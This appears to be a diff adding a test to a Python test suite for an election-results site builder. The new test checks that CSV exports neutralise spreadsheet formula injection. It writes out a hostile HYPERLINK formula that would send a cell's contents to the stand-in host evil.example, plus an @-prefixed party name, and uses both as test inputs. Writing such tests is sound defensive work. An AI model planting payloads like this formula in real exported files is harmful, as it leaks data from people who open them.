@@ -1,7 +1,9 @@
 """Every kind of bad input: exact messages with file:line:col, exit 1, no traceback, dist/ untouched."""
 from __future__ import annotations
 
+import csv
 import io
+import json
 import os
 import re
 import shutil
@@ -132,3 +134,23 @@ def test_an_editors_lock_files_are_passed_over(small_project: Path) -> None:
     for command in ("check", "build"):
         code, out, err = run(small_project, command)
         assert (code, err) == (0, warning)
+
+
+def test_a_formula_in_a_name_reaches_the_csv_files_as_text(small_project: Path) -> None:
+    """A spreadsheet runs a cell starting =, +, -, @, tab or return as a formula; the CSV files give
+    such text cells a leading apostrophe (docs/DATA.md). The pages and results.json keep the text."""
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Kate Smith")'
+    typed = 'name: "=HYPERLINK(\\"https://evil.example/?leak=\\"&A1,\\"Kate Smith\\")"'
+    seat = small_project / "content/constituencies/amber-valley.yml"
+    seat.write_text(seat.read_text().replace("name: Kate Smith", typed))
+    parties = small_project / "content/parties.yml"
+    parties.write_text(parties.read_text().replace("name: Reform UK", "name: '@Reform UK'"))
+    assert run(small_project, "build")[0] == 0
+    rows = list(csv.DictReader(io.StringIO((small_project / "dist/results.csv").read_text())))
+    assert [r["candidate"] for r in rows if r["constituency_slug"] == "amber-valley"][-1] == "'" + formula
+    assert {r["party"] for r in rows if r["party_id"] == "reform"} == {"'@Reform UK"}
+    county = list(csv.DictReader(io.StringIO((small_project / "dist/county.csv").read_text())))
+    assert {r["party"] for r in county if r["party_id"] == "reform"} == {"'@Reform UK"}
+    names = [c["name"] for s in json.loads((small_project / "dist/results.json").read_text())["constituencies"]
+             for c in s["candidates"]]
+    assert formula in names
